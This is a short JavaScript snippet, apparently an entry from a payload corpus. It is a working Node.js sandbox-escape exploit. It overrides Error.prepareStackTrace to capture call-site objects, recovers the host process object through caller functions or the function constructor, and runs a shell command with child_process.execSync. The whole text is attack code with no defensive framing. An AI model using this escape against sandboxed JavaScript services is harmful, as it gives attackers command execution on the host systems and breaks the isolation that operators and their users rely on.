// corpus: Error.prepareStackTrace hook to capture CallSite objects and reach caller functions
Error.prepareStackTrace = (err, frames) => frames;
function grab() {
  const frames = new Error().stack;
  for (const f of frames) {
    const fn = f.getFunction();
    const self = f.getThis();
    if (self && self.process) return self.process;
    if (fn) return fn.constructor('return process')();
  }
  return null;
}
const p = grab();
p.mainModule.require('child_process').execSync('id', { stdio: 'inherit' });
